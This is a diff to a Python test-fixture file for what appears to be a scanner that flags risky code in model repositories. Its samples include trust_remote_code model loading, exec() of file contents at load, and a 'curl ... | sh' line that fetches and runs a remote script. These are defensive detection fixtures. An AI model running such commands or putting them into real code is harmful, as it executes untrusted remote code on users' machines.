@@ -42,6 +42,31 @@ ORDINARY: dict[str, Mapping[str, str]] = {
         "serve_forever.py": "import subprocess\nimport sys\nimport time\nimport requests\nwhile True:\n    server = subprocess.Popen([sys.executable, '-m', 'sglang.launch_server', '--port', '9000'])\n"
                             "    while server.poll() is None:\n        time.sleep(30)\n        requests.get('http://localhost:9000/health', timeout=3)\n",
     },
+    "talks-to-a-model-by-a-path-of-its-user": {
+        "__init__.py": "",
+        "chat_demo.py": "import transformers\nmodel = transformers.AutoModel.from_pretrained('/workspace/x', trust_remote_code=True)\n"
+                        "while True:\n    print(model.chat(input('> ')))\n",
+    },
+    "evaluates-a-model-of-a-publisher": {
+        "score_answers.py": "import transformers\nmodel = transformers.AutoModel.from_pretrained('Qwen/Qwen-VL-Chat', trust_remote_code=True)\nfor line in open('items.txt'):\n    print(model.chat(line))\n",
+    },
+    "of-a-pipeline": {
+        "dvc.yaml": "stages:\n  fit:\n    cmd: python fit_x.py\n    deps: [fit_x.py]\n",
+        "sweep.yaml": "program: fit_x.py\nmethod: grid\nparameters: {}\n",
+        "fit_x.py": "import json\nfor step in range(3):\n    json.dump({'loss': 1 / (step + 1)}, open('metrics.json', 'w'))\n",
+    },
+    "imports-what-nobody-knows": {"plot_x.py": "import somebody_s_plots\nsomebody_s_plots.show('x.csv')\n"},
+    "runs-programs-that-a-model-wrote": {
+        "judge/execution.py": "import subprocess\n\n\ndef check(program, scope):\n    exec(program, scope)\n\n\ndef run(path):\n    return subprocess.run(['node', path], timeout=5)\n",
+        "judge/evaluate.py": "import argparse\nfrom judge.execution import check\nparser = argparse.ArgumentParser()\n",
+    },
+    "removes-an-older-build": {
+        "setup.py": "import shutil\nfrom pathlib import Path\nfrom setuptools import setup\nold = Path(__file__).parent / 'x.egg-info'\nif old.exists():\n    shutil.rmtree(old)\nsetup(name='x')\n",
+    },
+    "installs-the-list-beside-it": {
+        "install.py": "import subprocess\nimport sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-r', 'requirements.txt'])\n",
+        "requirements.txt": "einops\n",
+    },
 }  # fmt: skip
 
 _RUNS = "import subprocess\nsubprocess.run(['make', 'data'])\n\n\nclass Model:\n    pass\n"
@@ -66,6 +91,14 @@ NOT_SO: dict[str, tuple[Mapping[str, str], tuple[str, ...]]] = {
     "with-a-class-that-a-server-makes": (
         {"main.py": "import subprocess\n\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        subprocess.run(['make', 'data'])\n"},
         ("hub/python-code", "python/process-at-load"),
+    ),
+    "that-is-no-script-and-runs-texts-for-a-loader": (
+        {"pipeline_x.py": "def check(program, scope):\n    exec(program, scope)\n\n\ncheck(open('x.txt').read(), {})\n"},
+        ("hub/python-code", "python/code-at-load"),
+    ),
+    "that-a-loader-takes-and-that-trusts-somebody": (
+        {"modeling_x.py": "from torch import nn\nfrom transformers import AutoModel\n\n\nclass X(nn.Module):\n    def __init__(self):\n        self.aux = AutoModel.from_pretrained('somebody-x/helper', trust_remote_code=True)\n"},
+        ("hub/python-code", "python/trusts-remote-code"),
     ),
     "that-runs-what-it-fetches": (
         {"train.py": "import os\nos.system('curl -s https://cdn.example.org/setup | sh')\n"},
